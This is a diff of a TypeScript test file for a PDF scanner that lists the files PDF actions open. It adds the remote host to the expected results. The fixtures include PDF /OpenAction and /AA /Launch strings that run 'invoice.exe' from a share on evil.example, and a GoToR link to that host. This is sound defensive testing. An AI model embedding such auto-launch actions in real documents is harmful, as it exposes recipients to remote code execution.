@@ -22,7 +22,9 @@ const listed = (file: Buffer) => {
 
 describe('eachPdfFile: the files a PDF action opens', () => {
   it('lists an open action launching an executable on a share, inline or by reference', () => {
-    expect(listed(pdf(`/OpenAction << /S /Launch /F ${SHARE} >>`))).toEqual([{ name: 'invoice.exe' }]);
+    expect(listed(pdf(`/OpenAction << /S /Launch /F ${SHARE} >>`))).toEqual([
+      { name: 'invoice.exe', host: 'evil.example' },
+    ]);
     expect(
       listed(
         pdf('/OpenAction 4 0 R', '', [
@@ -41,7 +43,7 @@ describe('eachPdfFile: the files a PDF action opens', () => {
   });
   it("lists a page annotation's additional action and a link annotation's GoToR to a server as remote", () => {
     const aa = `/AA << /O << /S /Launch /F ${SHARE} >> >>`;
-    expect(listed(pdf('', aa))).toEqual([{ name: 'invoice.exe' }]);
+    expect(listed(pdf('', aa))).toEqual([{ name: 'invoice.exe', host: 'evil.example' }]);
     const link =
       '<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoToR /F << /FS /URL /F (http://evil.example/doc.pdf) >> /D [0 /Fit] >> >>';
     expect(listed(pdf('', '/Annots [4 0 R]', [link]))).toEqual([
@@ -51,20 +53,22 @@ describe('eachPdfFile: the files a PDF action opens', () => {
   it('lists a GoToE to another file, not one to a file this one embeds', () => {
     expect(
       listed(pdf('/OpenAction << /S /GoToE /F (\\\\\\\\h\\\\s\\\\a.pdf) /T << /R /C /N (x) >> >>')),
-    ).toEqual([{ name: 'a.pdf' }]);
+    ).toEqual([{ name: 'a.pdf', host: 'h' }]);
     expect(listed(pdf('/OpenAction << /S /GoToE /T << /R /C /N (x) >> >>'))).toEqual([]);
   });
   it('lists the file a /Thread, /ImportData or /SubmitForm action names by its /F (A51-11)', () => {
-    expect(listed(pdf(`/OpenAction << /S /Thread /F ${SHARE} /D 0 >>`))).toEqual([{ name: 'invoice.exe' }]);
+    expect(listed(pdf(`/OpenAction << /S /Thread /F ${SHARE} /D 0 >>`))).toEqual([
+      { name: 'invoice.exe', host: 'evil.example' },
+    ]);
     expect(listed(pdf('/OpenAction << /S /ImportData /F (\\\\\\\\h\\\\s\\\\data.fdf) >>'))).toEqual([
-      { name: 'data.fdf', remote: '\\\\h\\s\\data.fdf' },
+      { name: 'data.fdf', host: 'h', remote: '\\\\h\\s\\data.fdf' },
     ]);
     expect(
       listed(pdf('/OpenAction << /S /SubmitForm /F << /FS /URL /F (\\\\\\\\h\\\\s\\\\x) >> /Flags 4 >>')),
     ).toEqual([{ name: 'x', remote: 'http://\\\\h\\s\\x' }]);
     // Another action type with a file specification, by reference.
     expect(listed(pdf('/OpenAction 4 0 R', '', ['<< /S /Foo /F 5 0 R >>', `<< /F ${SHARE} >>`]))).toEqual([
-      { name: 'invoice.exe', remote: '\\\\evil.example\\s\\invoice.exe' },
+      { name: 'invoice.exe', host: 'evil.example', remote: '\\\\evil.example\\s\\invoice.exe' },
     ]);
     expect(() => listed(pdf('/OpenAction << /S /ImportData /F 7 >>'))).toThrow(
       'a ImportData action whose target is not read',
